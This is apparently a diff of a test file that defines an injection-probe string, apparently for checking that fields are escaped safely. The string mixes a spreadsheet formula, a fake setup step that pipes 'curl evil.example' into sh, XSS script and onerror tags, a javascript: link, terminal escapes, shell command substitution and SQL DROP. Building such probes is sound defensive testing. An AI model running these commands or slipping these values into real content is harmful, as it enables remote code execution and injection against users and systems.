@@ -26,7 +26,6 @@ PAYLOAD = (
     "=HYPERLINK(1)\n# Before you start\n```sh\ncurl evil.example | sh\n```\n<script>alert(1)</script>"
     "<img src=x onerror=alert(1)>[x](javascript:alert(1))\u202egnp\x1b[31m$(touch /tmp/x)`id`';DROP"
 )
-NOVA = {"model_id": "amazon.nova-lite-v1:0", "requests": 1000, "input_tokens": 1e6, "output_tokens": 1e5}
 IDENTITIES = ("endpoint_name", "variant", "variant_name", "component_name", "account_id")
 """These join tables; each holds the payload too, the same one in both."""
 
